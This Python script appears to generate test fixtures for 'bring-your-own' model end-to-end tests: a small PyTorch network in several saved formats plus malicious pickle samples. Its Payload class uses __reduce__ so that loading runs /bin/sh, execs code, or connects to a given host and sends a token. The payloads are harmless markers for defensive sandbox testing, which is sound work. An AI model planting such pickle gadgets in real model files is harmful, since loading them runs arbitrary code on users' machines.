#!/usr/bin/python3
"""Writes the model files a user brings, for the bring-your-own end-to-end tests:

  net.py             the architecture (two inputs, a tuple of two outputs)
  net_module.pt      torch.save of the whole nn.Module (full pickle: the class is imported from net.py)
  net.ts             the same module as TorchScript
  net_state.pt       its state dict (served into net.py's Net)
  canary.txt         hex of the 32 bytes at the start of the first weight (a canary_found objective)
  shells_out.pkl     a pickle whose load runs /bin/sh (os.system), like public malicious-model samples
  writes_file.pkl    a pickle whose load writes a file in-process (builtins.exec)
  beacon_<host>.pkl  a pickle whose load connects to <host>:<port> and sends a token

Usage: make_user_models.py OUT_DIR PORT HOST...
"""
import os
import pickle
import sys

import torch

NET_SOURCE = '''import torch


class Net(torch.nn.Module):
    def __init__(self, width=4):
        super().__init__()
        self.left = torch.nn.Linear(width, 3)
        self.right = torch.nn.Linear(width, 2)

    def forward(self, a, b):
        return torch.tanh(self.left(a)), self.right(a + b)
'''


class Payload:
    """Pickles to a call of `function(*args)` when loaded: the shape of pickle gadgets."""

    def __init__(self, function, *args):
        self.function = function
        self.args = args

    def __reduce__(self):
        return self.function, self.args


def main():
    out, port, hosts = sys.argv[1], int(sys.argv[2]), sys.argv[3:]
    os.makedirs(out, exist_ok=True)
    with open(os.path.join(out, "net.py"), "w") as f:
        f.write(NET_SOURCE)
    sys.path.insert(0, out)
    import net  # the class the full pickle names, as a user's own module would

    torch.manual_seed(7)
    model = net.Net().eval()
    torch.save(model, os.path.join(out, "net_module.pt"))
    torch.jit.script(model).save(os.path.join(out, "net.ts"))
    torch.save(model.state_dict(), os.path.join(out, "net_state.pt"))
    canary = model.left.weight.detach().contiguous().view(-1)[:8].numpy().astype("<f4").tobytes()
    with open(os.path.join(out, "canary.txt"), "w") as f:
        f.write(canary.hex())

    with open(os.path.join(out, "shells_out.pkl"), "wb") as f:
        pickle.dump(Payload(os.system, "/bin/sh -c 'echo byo > /tmp/byo-shell'"), f)
    with open(os.path.join(out, "writes_file.pkl"), "wb") as f:
        pickle.dump(Payload(exec, "open('/tmp/byo-file', 'w').write('byo-file-written')"), f)
    for host in hosts:
        code = ("import socket\n"
                f"s = socket.create_connection(({host!r}, {port}), timeout=10)\n"
                "s.sendall(b'byo-beacon-token')\n"
                "s.close()\n")
        with open(os.path.join(out, f"beacon_{host}.pkl"), "wb") as f:
            pickle.dump(Payload(exec, code), f)
    return 0


if __name__ == "__main__":
    sys.exit(main())
